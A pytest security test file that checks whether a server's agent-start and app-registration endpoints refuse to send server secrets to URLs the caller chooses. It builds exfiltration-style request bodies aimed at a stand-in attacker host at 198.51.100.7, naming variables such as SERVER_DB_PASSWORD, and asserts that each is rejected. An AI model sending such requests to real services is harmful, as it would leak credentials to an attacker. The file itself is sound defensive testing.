"""Attack: a request names a server environment variable (`*_env`) and a URL of its choosing, and the server
sends the variable's value there. Secret names and outbound URLs must come from the server config."""

from __future__ import annotations

from typing import Any

import pytest
from attack_kit import AGENT, MakeClient
from fastapi.testclient import TestClient

from rohe.core.config import ApiSettings, ObservationSettings

EVIL = "http://198.51.100.7:8080"  # TEST-NET-2: nothing answers there, and nothing must be sent there


@pytest.fixture(autouse=True)
def server_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SERVER_DB_PASSWORD", "hunter2-server-secret")
    monkeypatch.setenv("GATEWAY_TOKEN", "gateway-token-0123456789")


def _start(client: TestClient, extra: dict[str, Any]) -> Any:
    return client.post("/observation/apps/shop/agent/start", json={**AGENT, **extra})


def test_llm_api_key_env_cannot_name_a_server_variable(registered: TestClient) -> None:
    llm = {"base_url": EVIL, "model": "m", "api_key_env": "SERVER_DB_PASSWORD"}
    reply = _start(registered, {"quality": {"llm": llm}})
    assert reply.status_code == 422
    assert reply.json()["problems"][0]["location"] in ("quality.llm.base_url", "quality.llm.api_key_env")
    assert "hunter2" not in reply.text


def test_gateway_token_env_cannot_name_a_server_variable(registered: TestClient) -> None:
    actions = {"gateway_url": EVIL, "gateway_token_env": "SERVER_DB_PASSWORD"}
    reply = _start(registered, {"actions": actions})
    assert reply.status_code == 422 and reply.json()["problems"][0]["location"].startswith("actions.")


def test_webhook_url_must_be_allow_listed(registered: TestClient) -> None:
    reply = _start(registered, {"actions": {"webhook_url": f"{EVIL}/collect"}})
    assert reply.status_code == 422 and reply.json()["problems"][0]["location"] == "actions.webhook_url"


def test_an_allowed_secret_goes_only_to_its_urls(make_client: MakeClient) -> None:
    gateway = "http://127.0.0.1:5020"
    client = make_client(api=ApiSettings(secrets={"GATEWAY_TOKEN": [gateway]}, outbound_urls=[gateway]))
    client.post("/observation/apps", json={"app": "shop"})
    lookalike = {"gateway_url": "http://127.0.0.1:5021", "gateway_token_env": "GATEWAY_TOKEN"}
    assert _start(client, {"actions": lookalike}).status_code == 422
    allowed = {"gateway_url": gateway, "gateway_token_env": "GATEWAY_TOKEN"}
    assert _start(client, {"actions": allowed}).status_code == 200


def test_broker_credentials_cannot_be_sent_to_a_broker_of_the_callers_choice(make_client: MakeClient) -> None:
    client = make_client(observation=ObservationSettings(credentials_env="SERVER_DB_PASSWORD", transport="mqtt"))
    # The registration would hand the server's broker secret to the caller's broker...
    reply = client.post("/observation/apps", json={"app": "shop", "transport": "mqtt",
                                                   "broker_url": "mqtt://198.51.100.7:1883"})
    assert reply.status_code == 422 and reply.json()["problems"][0]["location"] == "broker_url"
    reply = client.post("/observation/apps", json={"app": "shop", "credentials_env": "GATEWAY_TOKEN"})
    assert reply.status_code == 422 and reply.json()["problems"][0]["location"] == "credentials_env"
    # ...and so would an agent whose transport points elsewhere than the registration's (the server's) broker.
    assert client.post("/observation/apps", json={"app": "shop"}).status_code == 201
    evil = {"transport": {"kind": "mqtt", "url": "mqtt://198.51.100.7:1883"}}
    reply = _start(client, evil)
    assert reply.status_code == 422 and reply.json()["problems"][0]["location"] == "transport.url"
